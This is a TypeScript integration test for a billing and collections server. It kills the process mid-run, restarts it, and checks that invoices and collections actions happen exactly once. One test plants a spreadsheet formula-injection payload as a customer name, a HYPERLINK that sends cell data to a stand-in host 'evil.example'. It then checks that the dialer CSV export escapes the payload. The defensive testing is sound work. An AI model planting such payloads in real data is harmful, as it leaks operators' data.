import { gqlOk } from '../support/client';
import { createScratchDatabase, type ScratchDatabase } from '../support/databases';
import { ADMIN_PASSWORD } from '../support/hub';
import { spawnPeer, type HubProcess } from '../support/process';
import { eventually } from '../support/wait';

const ACCOUNTS = 2000;

async function startChild(db: ScratchDatabase): Promise<{ child: HubProcess; url: string; token: string }> {
  const child = spawnPeer(db, {
    HUB_RATE_LIMIT_RPS: '0',
  });
  const url = await child.ready();
  const login = await gqlOk(url, 'mutation($p: String!) { login(username: "admin", password: $p) { token } }', { p: ADMIN_PASSWORD });
  return { child, url, token: login.login.token };
}

/** Runs `work` over the items with `width` requests in flight. */
async function inParallel<T>(items: T[], width: number, work: (item: T) => Promise<unknown>): Promise<void> {
  let next = 0;
  await Promise.all(
    Array.from({ length: width }, async () => {
      while (next < items.length) await work(items[next++]);
    }),
  );
}

describe('the server killed in the middle of a run', () => {
  let db: ScratchDatabase;
  let hub: { child: HubProcess; url: string; token: string };

  beforeAll(async () => {
    db = await createScratchDatabase();
    hub = await startChild(db);
    const { url, token } = hub;
    const product = await gqlOk(
      url,
      'mutation { createProduct(input: { code: "CRASH", name: "Crash test", unit: "kWh", fixedCharge: "5.00", rates: [{ effectiveFrom: "2026-01-01", unitPrice: "0.1" }] }) { id } }',
      {},
      token,
    );
    await gqlOk(
      url,
      'mutation($id: ID!) { publishProduct(id: $id, salesStart: "2026-01-01") { id } }',
      { id: product.createProduct.id },
      token,
    );
    const numbers = Array.from({ length: ACCOUNTS }, (_, i) => `CR-${String(i).padStart(5, '0')}`);
    await inParallel(numbers, 8, async (number) => {
      const created = await gqlOk(
        url,
        'mutation($n: String!) { createAccount(input: { number: $n, name: $n, segment: "RESIDENTIAL" }) { id } }',
        { n: number },
        token,
      );
      await gqlOk(
        url,
        'mutation($a: ID!) { enroll(accountId: $a, productCode: "CRASH", startDate: "2026-01-01") { id } }',
        { a: created.createAccount.id },
        token,
      );
    });
    const reads = numbers.map((n) => ({ accountNumber: n, periodStart: '2026-01-01', periodEnd: '2026-02-01', quantity: '100' }));
    const imported = await gqlOk(url, 'mutation($reads: [UsageInput!]!) { recordUsage(reads: $reads) { accepted } }', { reads }, token);
    expect(imported.recordUsage.accepted).toBe(ACCOUNTS);
    // 4,000 requests, each its own transaction: minutes on a busy machine's MariaDB.
  }, 420_000);

  afterAll(async () => {
    hub?.child.child.kill('SIGKILL');
    await hub?.child.exited;
    await db?.drop();
  });

  it('bills every read exactly once after a restart and a new run', async () => {
    const started = await gqlOk(
      hub.url,
      'mutation { runBilling(asOf: "2026-02-01", wait: false) { id accountsConsidered } }',
      {},
      hub.token,
    );
    expect(started.runBilling.accountsConsidered).toBe(ACCOUNTS);
    // Kill -9 as soon as the first chunk has committed.
    let processed = 0;
    for (let i = 0; i < 2000 && processed === 0; i++) {
      const run = await gqlOk(
        hub.url,
        'query($id: ID!) { billRun(id: $id) { accountsProcessed } }',
        { id: started.runBilling.id },
        hub.token,
      );
      processed = run.billRun.accountsProcessed;
    }
    hub.child.child.kill('SIGKILL');
    await hub.child.exited;
    expect(processed).toBeGreaterThan(0);
    expect(processed).toBeLessThan(ACCOUNTS);

    hub = await startChild(db);
    // Alone on its database (no REDIS_URL), the restarted process bills the rest of the run it was killed in.
    const resumed = await eventually(
      'the killed run to be finished after the restart',
      async () => {
        const run = await gqlOk(
          hub.url,
          'query($id: ID!) { billRun(id: $id) { status accountsProcessed invoicesIssued } }',
          { id: started.runBilling.id },
          hub.token,
        );
        return run.billRun.status === 'RUNNING' ? undefined : run.billRun;
      },
      { timeoutMs: 60_000 },
    );
    expect(resumed).toEqual({ status: 'COMPLETED', accountsProcessed: ACCOUNTS, invoicesIssued: ACCOUNTS });
    const rerun = await gqlOk(
      hub.url,
      'mutation { runBilling(asOf: "2026-02-01") { status accountsConsidered invoicesIssued } }',
      {},
      hub.token,
    );
    expect(rerun.runBilling).toEqual({ status: 'COMPLETED', accountsConsidered: 0, invoicesIssued: 0 });

    const invoices = await gqlOk(hub.url, '{ invoices(first: 1) { totalCount } }', {}, hub.token);
    expect(invoices.invoices.totalCount).toBe(ACCOUNTS);
    const again = await gqlOk(hub.url, 'mutation { runBilling(asOf: "2026-02-01") { accountsConsidered invoicesIssued } }', {}, hub.token);
    expect(again.runBilling).toEqual({ accountsConsidered: 0, invoicesIssued: 0 });
    // Every account has exactly one invoice, and every invoice its one read.
    const perAccount = await gqlOk(
      hub.url,
      '{ accounts(first: 500) { nodes { invoices { totalCount nodes { total } } } } }',
      {},
      hub.token,
    );
    for (const account of perAccount.accounts.nodes) {
      expect(account.invoices.totalCount).toBe(1);
      expect(account.invoices.nodes[0].total).toBe('15.00');
    }
  }, 180_000);

  it('takes every collections action once after a restart and a new run, and every dialer row reaches a downloadable file', async () => {
    // Every account billed above owes 15.00, due 2026-02-22: by 2026-03-01 each is 7 days past due.
    await gqlOk(
      hub.url,
      `mutation { createCollectionsPath(input: { name: "Crash path", segments: ["RESIDENTIAL"], steps: [
        { name: "Reminder", daysPastDue: 1, minPastDue: "1.00", action: REMINDER, template: "{{name}} owes {{pastDue}}" },
        { name: "Letter", daysPastDue: 5, minPastDue: "1.00", action: LETTER, template: "Dear {{name}}, {{daysPastDue}} days late" },
        { name: "Dialer", daysPastDue: 5, minPastDue: "1.00", action: DIALER_EXPORT } ] }) { id } }`,
      {},
      hub.token,
    );
    // A customer who named themselves as a spreadsheet formula, hoping an operator opens the dialer file.
    const formula = '=HYPERLINK("http://evil.example/?leak="&A3,"Pay here")';
    const victim = await gqlOk(hub.url, '{ account(number: "CR-00000") { id } }', {}, hub.token);
    await gqlOk(
      hub.url,
      'mutation($id: ID!, $name: String!) { updateAccount(id: $id, input: { name: $name }) { id } }',
      { id: victim.account.id, name: formula },
      hub.token,
    );
    const started = await gqlOk(hub.url, 'mutation { runCollections(asOf: "2026-03-01", wait: false) { id } }', {}, hub.token);
    const deadRun = started.runCollections.id as string;
    let evaluated = 0;
    for (let i = 0; i < 2000 && evaluated === 0; i++) {
      const run = await gqlOk(hub.url, 'query($id: ID!) { collectionsRun(id: $id) { accountsEvaluated } }', { id: deadRun }, hub.token);
      evaluated = run.collectionsRun.accountsEvaluated;
    }
    hub.child.child.kill('SIGKILL');
    await hub.child.exited;
    expect(evaluated).toBeGreaterThan(0);
    expect(evaluated).toBeLessThan(ACCOUNTS);

    hub = await startChild(db);
    // Alone on its database, the restarted process finishes the dead run from its PENDING chunks as it starts.
    const dead = await eventually(
      'the killed collections run to be finished after the restart',
      async () => {
        const run = await gqlOk(hub.url, 'query($id: ID!) { collectionsRun(id: $id) { status finishedAt } }', { id: deadRun }, hub.token);
        return run.collectionsRun.status === 'RUNNING' ? undefined : run;
      },
      { timeoutMs: 60_000 },
    );
    expect(dead.collectionsRun.status).toBe('COMPLETED');
    expect(dead.collectionsRun.finishedAt).not.toBeNull();

    const rerun = await gqlOk(hub.url, 'mutation { runCollections(asOf: "2026-03-01") { id status actionsTaken } }', {}, hub.token);
    expect(rerun.runCollections.status).toBe('COMPLETED');
    expect(rerun.runCollections.actionsTaken).toBeLessThanOrEqual(3 * (ACCOUNTS - evaluated));
    const again = await gqlOk(hub.url, 'mutation { runCollections(asOf: "2026-03-01") { actionsTaken } }', {}, hub.token);
    expect(again.runCollections.actionsTaken).toBe(0);
    // Exactly one reminder, one letter and one dialer row per account, whichever run took them.
    // Committed actions' events are numbered by the relay of whichever process runs next.
    const total = await eventually('every action event to be numbered', async () => {
      const actions = await gqlOk(hub.url, '{ events(types: [COLLECTIONS_ACTION_TAKEN], first: 1) { totalCount } }', {}, hub.token);
      return actions.events.totalCount >= 3 * ACCOUNTS ? actions.events.totalCount : undefined;
    });
    expect(total).toBe(3 * ACCOUNTS);
    const perAccount = await gqlOk(hub.url, '{ accounts(first: 300) { nodes { collectionsActions { action } } } }', {}, hub.token);
    for (const account of perAccount.accounts.nodes) {
      expect(account.collectionsActions.map((a: { action: string }) => a.action).sort()).toEqual(['DIALER_EXPORT', 'LETTER', 'REMINDER']);
    }

    // The operator downloads both files: together they list every account once.
    const download = async (runId: string) => {
      const res = await fetch(`${hub.url}/exports/dialer/${runId}.csv`, { headers: { authorization: `Bearer ${hub.token}` } });
      expect(res.status).toBe(200);
      const lines = (await res.text()).split('\r\n').filter((l) => l !== '');
      expect(lines[0]).toBe('accountNumber,name,phone,pastDue,daysPastDue');
      return lines.slice(1);
    };
    const deadRows = await download(deadRun);
    const rerunRows = await download(rerun.runCollections.id);
    expect(deadRows.length).toBeGreaterThan(0);
    const numbers = [...deadRows, ...rerunRows].map((line) => line.split(',')[0]).sort();
    expect(numbers).toEqual(Array.from({ length: ACCOUNTS }, (_, i) => `CR-${String(i).padStart(5, '0')}`));
    // The formula is written as text (a single quote first), so a spreadsheet shows it and runs nothing.
    const victimRow = [...deadRows, ...rerunRows].find((line) => line.startsWith('CR-00000,'));
    expect(victimRow).toBe(`CR-00000,"'=HYPERLINK(""http://evil.example/?leak=""&A3,""Pay here"")",,15.00,7`);
  }, 180_000);
});
